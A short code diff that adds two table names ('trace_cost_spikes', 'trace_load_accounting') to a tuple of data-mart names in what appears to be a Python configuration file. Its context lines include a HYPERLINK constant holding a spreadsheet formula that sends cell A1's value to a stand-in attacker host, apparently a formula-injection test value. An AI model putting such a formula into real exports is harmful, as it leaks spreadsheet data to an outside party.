@@ -31,6 +31,8 @@ MARTS = (
     "fct_employee_roster_mismatches",
     "fct_load_accounting",
     "fct_plan_gaps",
+    "trace_cost_spikes",
+    "trace_load_accounting",
 )
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
